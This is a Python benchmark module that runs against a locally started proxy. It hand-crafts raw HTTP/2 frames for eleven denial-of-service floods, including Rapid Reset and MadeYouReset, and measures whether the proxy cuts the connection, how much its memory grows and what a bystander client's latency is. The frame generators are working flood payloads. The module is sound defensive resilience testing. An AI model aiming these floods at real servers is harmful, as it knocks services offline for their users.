"""`python -m bench.floods`: what HTTP/2 floods do to a server, and to somebody else who uses it.

Each attack is one connection that sends groups of frames as fast as it can, while another client asks
for /healthz all the time. Told is how many frames the attacker had sent when it was cut, or that it was
not, and what the other client saw: its slowest requests, and what the server's memory grew by.

Frames are made by hand, so that nothing in between keeps the rules for the attacker.
"""

import argparse
import os
import socket
import statistics
import struct
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from pathlib import Path

from bench.processes import plan_cores, pss_bytes, running
from bench.rig import DEFAULT_PROXY

__all__ = ["ATTACKS", "Outcome", "attack", "main", "serving"]

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4

# A block of the static table and plain literals (RFC 7541): POST http / with :authority `a`.
POST_BLOCK = b"\x83\x86\x84\x01\x01a"
GET_BLOCK = b"\x82\x86\x84\x01\x01a"

GROUPS = 20_000
"""Groups that an attacker sends at most: ten times as many frames as it may."""

SECONDS = 3.0
"""How long an attack is watched."""

BATCH = 20
"""Groups in one write."""

MOST_FRAMES, MOST_SECONDS, MOST_GROWTH, MOST_P99 = 2000, 1.0, 2 * 2**20, 0.050
"""What is promised: an attacker is cut within so many frames or seconds, the server grows by so many
bytes, and the other client's 99th percentile stays below so many seconds."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return one frame."""
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream)
        + payload
    )


def rapid_reset(at: int) -> bytes:
    """A request, given up at once (CVE-2023-44487)."""
    stream = 2 * at + 1
    return frame(HEADERS, END_HEADERS, stream, POST_BLOCK) + frame(
        RST, 0, stream, struct.pack(">I", 8)
    )


def made_you_reset(at: int) -> bytes:
    """A request, and a window that overflows: the server has to reset it (CVE-2025-8671)."""
    stream = 2 * at + 1
    overflow = frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 2**31 - 1))
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, GET_BLOCK) + overflow


def ping(at: int) -> bytes:
    """A PING, to be answered."""
    return frame(PING, 0, 0, struct.pack(">Q", at))


def settings(at: int) -> bytes:
    """SETTINGS, to be acknowledged."""
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535 + at % 2))


def empty_data(at: int) -> bytes:
    """A request whose body never gets a byte."""
    start = frame(HEADERS, END_HEADERS, 1, POST_BLOCK) if at == 0 else b""
    return start + frame(DATA, 0, 1)


def continuation(at: int) -> bytes:
    """A head that never ends."""
    start = frame(HEADERS, 0, 1, POST_BLOCK) if at == 0 else b""
    return start + frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y" * 50)


def priority(at: int) -> bytes:
    """Priorities of streams that nobody opened."""
    return frame(PRIORITY, 0, 2 * at + 1, struct.pack(">IB", 0, 15))


def window_update(_: int) -> bytes:
    """Room that nobody needs."""
    return frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))


def unknown(_: int) -> bytes:
    """A frame of a type that nobody knows."""
    return frame(0xEE, 0, 0, b"x" * 16)


def huge_frame(at: int) -> bytes:
    """A frame of 16 MiB, piece by piece."""
    return b"\xff\xff\xff\x00\x00\x00\x00\x00\x01" if at == 0 else b"x" * 4096


def table_growth(at: int) -> bytes:
    """A header table of 4 GiB for the server's encoder, and requests for answers to fill it."""
    start = frame(SETTINGS, 0, 0, struct.pack(">HI", 1, 2**32 - 1)) if at == 0 else b""
    return start + frame(HEADERS, END_HEADERS | END_STREAM, 2 * at + 1, GET_BLOCK)


ATTACKS: dict[str, Callable[[int], bytes]] = {
    made.__name__: made
    for made in (
        rapid_reset, made_you_reset, ping, settings, empty_data, continuation, priority,
        window_update, unknown, huge_frame, table_growth,
    )
}  # fmt: skip

NEVER_CUT = frozenset({"table_growth"})
"""Not a flood of frames: it may go on, as long as no memory grows."""


@dataclass(frozen=True)
class Outcome:
    """How one attack went.

    Attributes:
        frames: sent when the connection was cut; None: it was not.
        seconds: until then.
        growth: bytes, of the server's memory.
        latencies: seconds, of the other client's requests.
        failed: requests of the other client that were not answered with 200.
    """

    frames: int | None
    seconds: float
    growth: int
    latencies: list[float]
    failed: int

    @property
    def p99(self) -> float:
        """The other client's 99th percentile, in seconds."""
        return statistics.quantiles(self.latencies, n=100)[98] if len(self.latencies) > 1 else 0.0

    def faults(self, name: str) -> list[str]:
        """What was not as promised; nothing of it is about speed."""
        found = []
        if self.failed:
            found.append(f"{name}: {self.failed} requests of somebody else failed")
        if name not in NEVER_CUT:
            if self.frames is None:
                found.append(f"{name}: was not cut")
            elif self.frames > MOST_FRAMES and self.seconds > MOST_SECONDS:
                found.append(f"{name}: was cut after {self.frames} frames, {self.seconds:.1f} s")
        if self.growth > MOST_GROWTH:
            found.append(f"{name}: the server grew by {self.growth / 2**20:.1f} MiB")
        return found


class _Bystander(threading.Thread):
    """Asks for /healthz again and again."""

    def __init__(self, port: int) -> None:
        super().__init__(daemon=True)
        self._port = port
        self.latencies: list[float] = []
        self.failed = 0
        self.stop = threading.Event()

    def run(self) -> None:
        while not self.stop.wait(0.005):
            began = time.monotonic()
            try:
                with socket.create_connection(("127.0.0.1", self._port), 10) as wire:
                    wire.sendall(
                        b"GET /healthz HTTP/1.1\r\nhost: localhost\r\nconnection: close\r\n\r\n"
                    )
                    good = wire.recv(4096).startswith(b"HTTP/1.1 200")
            except OSError:
                good = False
            self.failed += not good
            self.latencies.append(time.monotonic() - began)


def attack(name: str, port: int, pid: int) -> Outcome:
    """Attack the server on `port` once, and watch."""
    before = pss_bytes(pid)
    bystander = _Bystander(port)
    bystander.start()
    try:
        frames, seconds = _send(ATTACKS[name], port)
    finally:
        time.sleep(0.3)
        bystander.stop.set()
        bystander.join()
    return Outcome(frames, seconds, pss_bytes(pid) - before, bystander.latencies, bystander.failed)


def _send(make: Callable[[int], bytes], port: int) -> tuple[int | None, float]:
    """Return how many frames were sent when the server cut us, and after how many seconds."""
    per_group = max(1, _count(make(1)))
    with socket.create_connection(("127.0.0.1", port), 10) as wire:
        wire.settimeout(0.05)
        began = time.monotonic()
        wire.sendall(PREFACE + frame(SETTINGS, 0, 0))
        for at in range(0, GROUPS, BATCH):
            data = b"".join(make(one) for one in range(at, at + BATCH))
            if not _sent(wire, data):
                return at * per_group, time.monotonic() - began
            if time.monotonic() - began > SECONDS:
                break
        while (passed := time.monotonic() - began) < SECONDS:
            if not _read(wire):
                return at * per_group, passed
    return None, SECONDS


def _count(data: bytes) -> int:
    """Return the number of frames in `data`."""
    found = at = 0
    while at + 9 <= len(data):
        found += 1
        at += 9 + int.from_bytes(data[at : at + 3], "big")
    return found


def _sent(wire: socket.socket, data: bytes) -> bool:
    """Send, and read what comes back; False when the server has cut us."""
    view = memoryview(data)
    deadline = time.monotonic() + SECONDS
    while view and time.monotonic() < deadline:
        try:
            view = view[wire.send(view) :]
        except TimeoutError:
            pass
        except OSError:
            return False
        wire.setblocking(False)
        try:
            if not _read(wire):
                return False
        finally:
            wire.settimeout(0.05)
    return True


def _read(wire: socket.socket) -> bool:
    """Read what is there; False at the end."""
    try:
        return bool(wire.recv(65536))
    except (BlockingIOError, TimeoutError):
        return True
    except OSError:
        return False


@contextmanager
def serving(command: str = DEFAULT_PROXY) -> Iterator[tuple[int, int]]:
    """Run a proxy with its embedded engine; give its port and process id."""
    import shlex

    with tempfile.TemporaryDirectory() as folder:
        config = Path(folder, "rawproxy.toml")
        config.write_text('[upstreams.local]\nprovider = "engine"\n')
        words = [word.format(config=config) for word in shlex.split(command)]
        with running(words, plan_cores().proxy) as server:
            yield server.port, server.pid


def main(words: list[str]) -> int:
    """Run all attacks and print a table; 1 when something was not as promised."""
    parser = argparse.ArgumentParser(prog="python -m bench.floods", description=__doc__)
    parser.add_argument("--only", metavar="NAME,...", help=f"of {','.join(ATTACKS)}")
    options = parser.parse_args(words)
    chosen = options.only.split(",") if options.only else list(ATTACKS)
    if unknown_names := set(chosen) - set(ATTACKS):
        parser.error(f"no such attack: {', '.join(sorted(unknown_names))}")
    faults: list[str] = []
    with serving() as (port, pid):
        attack("ping", port, pid)  # what is loaded with the first one is no growth
        print(f"{'attack':16} {'cut after':>16} {'seconds':>8} {'p99 ms':>7} {'growth KiB':>10}")
        for name in chosen:
            found = attack(name, port, pid)
            cut = "not" if found.frames is None else f"{found.frames} frames"
            p99, growth = found.p99 * 1000, found.growth // 1024
            print(f"{name:16} {cut:>16} {found.seconds:8.2f} {p99:7.1f} {growth:10}", flush=True)
            faults += found.faults(name)
            with suppress(ProcessLookupError):
                os.kill(pid, 0)
                continue
            faults.append(f"{name}: the server is gone")
    for fault in faults:
        print(fault, file=sys.stderr)
    return 1 if faults else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
